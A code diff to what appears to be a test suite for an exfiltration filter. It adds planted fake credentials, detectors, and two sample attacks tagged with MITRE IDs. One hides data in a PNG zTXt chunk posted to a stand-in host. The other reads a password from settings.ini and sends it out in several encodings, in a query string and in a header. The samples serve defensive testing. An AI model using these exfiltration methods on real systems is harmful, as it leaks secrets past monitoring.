@@ -9,6 +9,8 @@ NOT_ALLOWED = "host_not_allowed"
 # Any address that no name stands for.
 PUBLIC = "93.184.216.34"
 KEY = b"AKIAQ3EGRVHBDY2T5LZX"
+# Of the settings in the directory; nothing but its label tells it from words.
+PASSWORD = b"Blue-Harbour-77!x"
 INWARD = ("10.", "172.16.", "192.168.", "127.0.0.1:", "169.254.", "100.100.", "fd00:")
 # Filter, reason, and a value dressed so that the filter holds.
 DRESSED = [
@@ -121,6 +123,16 @@ def numbered(outcome):
 def cards(outcome):
     """More than ten times as many as the user was shown."""
     return len({n for r in outcome.reached if r["kind"] == "data" for n in re.findall(rb"card (4\d{15})", r["data"])}) > 20
+
+
+def password(outcome):
+    """The password of the settings arrived, whatever stands between its letters."""
+    said = b"".join(r["data"] for r in outcome.reached if r["kind"] == "data")
+    return any(re.sub(rb"\W", b"", form) in re.sub(rb"\W", b"", said) for form in (PASSWORD, PASSWORD.hex().encode(), base64.b64encode(PASSWORD)))
+
+
+def pictured(outcome):
+    return any(b"zTXt" in r["data"] for r in outcome.reached if r["kind"] == "data")
 
 
 def relayed(outcome):
@@ -370,6 +382,22 @@ for port in (4444, 6667, 31337):
     encoded("hex", "sent = report.encode().hex()"),
     encoded("rot13", 'sent = codecs.encode(report, "rot13")'),
     encoded("gzip", "sent = gzip.compress(report.encode())"),
+    NetAttempt(16, "a text of a picture of what was read", "T1041", """
+import zlib
+def chunk(kind, data):
+    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
+picture = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"zTXt", b"Comment\\0\\0" + zlib.compress(report.encode()))
+picture += chunk(b"IDAT", zlib.compress(b"\\0\\0")) + chunk(b"IEND", b"")
+web("http://inspected.example/in", picture, {"Content-Type": "image/png"})
+""", rule="passage_leaves", effect=pictured),
+    NetAttempt(16, "a password that was read without its label", "T1041|T1552.001", """
+with open(W + "/settings.ini") as f:
+    password = f.read().split('"')[1]
+for said in (password, json.dumps({"note": password}), password.encode().hex(), ".".join(password), base64.b64encode(password.encode()).decode()):
+    web("http://inspected.example/in", said)
+web("http://inspected.example/?v=" + urllib.parse.quote(password))
+web("http://inspected.example/", headers={"X-Note": password})
+""", rule="passage_leaves", effect=password),
     encoded("base64 of gzip", "sent = base64.b64encode(gzip.compress(report.encode())).decode()"),
     encoded("text backwards", "sent = report[::-1]"),
     encoded("look-alike letters", 'sent = report.translate(str.maketrans("aceyo", "\\u0430\\u0441\\u0435\\u0443\\u043e"))',
